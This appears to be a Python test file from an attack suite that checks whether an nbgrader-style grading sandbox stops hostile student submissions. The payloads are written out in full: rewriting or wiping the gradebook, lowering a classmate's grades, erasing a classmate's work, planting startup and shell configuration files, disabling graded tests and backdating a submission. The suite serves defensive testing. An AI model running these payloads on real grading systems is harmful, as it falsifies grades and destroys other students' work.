"""Writes where it should not: gradebook, start-up files, settings, other students' work."""

from tests.attacks.attack import Attack, returning
from tests.attacks.payloads import ALWAYS, MARK

DATABASE = """
import sqlite3
def write(*statements):
    try:
        with sqlite3.connect("@COURSE@/gradebook.db", timeout=3) as db:
            for statement in statements:
                db.execute(statement)
    except sqlite3.Error as error:
        print(error)
"""
OWN_GRADES = (
    "(select g.id from grade g join submitted_notebook n on g.notebook_id = n.id join submitted_assignment s"
    " on n.assignment_id = s.id where s.student_id = '{}')"
)
LATER = """
import os, subprocess, sys
code = '''
import sqlite3, time
for _ in range(12):
    time.sleep(0.5)
    try:
        with sqlite3.connect("@COURSE@/gradebook.db", timeout=1) as db:
            db.execute("update grade set auto_score = 24 where id in MINE")
    except sqlite3.Error:
        pass
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, close_fds=True)
""".replace("MINE", OWN_GRADES.format("@ME@"))
LOCK = """
import subprocess, sys
code = '''
import sqlite3, time
db = sqlite3.connect("@COURSE@/gradebook.db", isolation_level=None)
db.execute("begin exclusive")
time.sleep(12)
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
"""
STARTUP = """
import os
for home in {os.path.expanduser("~"), "@HOME@", os.environ.get("IPYTHONDIR", "@HOME@/.ipython")}:
    for folder in (f"{home}/.ipython/profile_default/startup", f"{home}/profile_default/startup"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/00-first.py", "w") as file:
                file.write('''
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
import builtins
builtins.isinstance = lambda *a: True
''')
        except OSError as error:
            print(error)
"""
REWRITE = """
import glob, json
def rewrite(pattern):
    for path in glob.glob(pattern):
        try:
            book = json.load(open(path))
            for cell in book["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade"):
                    cell["source"] = "pass"
            json.dump(book, open(path, "w"))
        except (OSError, ValueError) as error:
            print(error)
"""

ATTACKS = [
    Attack(
        "write_manual_score",
        "gives itself all points in the gradebook, by hand",
        first=DATABASE,
        last=f'write("update grade set manual_score = 24 where id in {OWN_GRADES.format("@ME@")}")',
        harmful=True,
    ),
    Attack(
        "write_extra_credit",
        "gives itself extra credit in the gradebook",
        first=DATABASE,
        last=f'write("update grade set extra_credit = 24 where id in {OWN_GRADES.format("@ME@")}")',
        harmful=True,
    ),
    Attack("write_later", "leaves a process that writes points when grading is over", first=LATER, harmful=True),
    Attack(
        "write_classmate_to_nothing",
        "takes a classmate's points away",
        first=DATABASE
        + f'write("update grade set auto_score = 0, manual_score = 0 where id in {OWN_GRADES.format("ann")}")',
        harmful=True,
    ),
    Attack("write_lock", "locks the gradebook for as long as grading takes", first=LOCK, harmful=True),
    Attack(
        "write_empty_gradebook",
        "empties the gradebook",
        first='try:\n    open("@COURSE@/gradebook.db", "w").close()\nexcept OSError as error:\n    print(error)',
        harmful=True,
    ),
    Attack("write_startup_file", "leaves a start-up file for every later kernel", first=STARTUP, harmful=True),
    Attack("write_startup_used", "is graded after that, with wrong answers", after="write_startup_file"),
    Attack(
        "write_settings",
        "leaves settings that run whenever the instructor grades",
        first=MARK
        + """
mark("@HOME@/.jupyter/nbgrader_config.py", "@HOME@/.bashrc", "@HOME@/.profile", "@HOME@/.config/pip/pip.conf")
mark("@COURSE@/nbgrader_config.py", "@HOME@/.local/lib/python3.11/site-packages/usercustomize.py")
""",
        harmful=True,
    ),
    Attack(
        "write_markers",
        "writes into temporary folders, shared memory, the course and the packages",
        first=MARK
        + """
import numpy, os
mark("/tmp/attack-marker-@ME@", "/var/tmp/attack-marker-@ME@", "/dev/shm/attack-marker-@ME@", "/run/attack-marker-@ME@")
mark("@COURSE@/attack-marker-@ME@", "@HOME@/attack-marker-@ME@", "../../attack-marker-@ME@", "/attack-marker-@ME@")
mark(os.path.dirname(numpy.__file__) + "/attack-marker-@ME@", "/var/lock/attack-marker-@ME@", "/usr/attack-marker-@ME@")
""",
        harmful=True,
    ),
    Attack(
        "write_classmates_work",
        "destroys the work of a classmate who is graded later",
        first="""
import glob
for path in glob.glob("../../../submitted/zoe/ps00/*") + glob.glob("@COURSE@/submitted/zoe/ps00/*"):
    try:
        open(path, "w").close()
    except OSError as error:
        print(error)
""",
        harmful=True,
    ),
    Attack(
        "write_own_copy",
        "empties the tests in the notebook that is graded, and in what it handed in",
        first=REWRITE + 'rewrite("*.ipynb")\nrewrite("@COURSE@/*/@ME@/ps00/ps00.ipynb")',
        harmful=True,
    ),
    Attack(
        "write_source",
        "empties the tests in the source and in the release",
        first=REWRITE + 'rewrite("@COURSE@/source/ps00/*.ipynb")\nrewrite("@COURSE@/release/ps00/*.ipynb")',
        harmful=True,
    ),
    Attack(
        "write_time",
        "hands in yesterday",
        first="""
try:
    open("@COURSE@/submitted/@ME@/ps00/timestamp.txt", "w").write("2020-01-01 00:00:00.0 UTC")
except OSError as error:
    print(error)
""",
        harmful=True,
    ),
    Attack(
        "write_bytecode",
        "leaves compiled modules and numba caches for whoever comes later",
        first=ALWAYS
        + """
import glob, os, py_compile, numpy
evil = "import builtins; builtins.attacked = True"
for folder in [os.path.dirname(numpy.__file__), os.getcwd(), os.environ.get("NUMBA_CACHE_DIR", ".")]:
    try:
        os.makedirs(f"{folder}/__pycache__", exist_ok=True)
        open(f"{folder}/__pycache__/attack-marker-@ME@.pyc", "w").write(evil)
    except OSError as error:
        print(error)
""",
        answers=returning("Always()", "double"),
        at_most=True,
        harmful=True,
    ),
]
